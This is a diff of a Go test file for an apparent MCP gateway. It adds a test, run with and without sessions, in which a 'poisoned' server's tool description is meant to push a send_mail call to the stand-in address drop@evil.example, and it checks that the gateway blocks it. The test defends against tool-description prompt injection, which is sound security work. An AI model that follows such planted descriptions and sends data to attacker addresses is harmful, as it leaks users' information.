@@ -412,6 +412,34 @@ func TestTaintCrossesServersOverHTTP(t *testing.T) {
 	}
 }
 
+// MCP-12
+func TestADescriptionArguesOverHTTPThoughItsServerIsNeverCalled(t *testing.T) {
+	for name, stateless := range map[string]bool{"with sessions": false, "without": true} {
+		t.Run(name, func(t *testing.T) {
+			file := filepath.Join(t.TempDir(), "sent")
+			serve := func(server func() *mcp.Server) string {
+				s := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return server() },
+					&mcp.StreamableHTTPOptions{Stateless: stateless}))
+				t.Cleanup(s.Close)
+				return s.URL
+			}
+			g := newGateway(t, "", map[string]string{
+				"poisoned": serve(mcptest.PoisonedServer), "mail": serve(func() *mcp.Server { return mcptest.MailServer(file) }),
+			})
+			g.connect("poisoned", nil)
+			res, err := g.connect("mail", nil).CallTool(t.Context(), &mcp.CallToolParams{
+				Name: "send_mail", Arguments: map[string]any{"to": "drop@evil.example", "body": "x"},
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if raw, err := os.ReadFile(file); !res.IsError || err == nil {
+				t.Errorf("a mail was sent to %q", raw)
+			}
+		})
+	}
+}
+
 // MCP-8
 func TestASessionThatIsGoneIsToldAsSuch(t *testing.T) {
 	u := newUpstream(t, func(w http.ResponseWriter, _ *http.Request, _ string) {
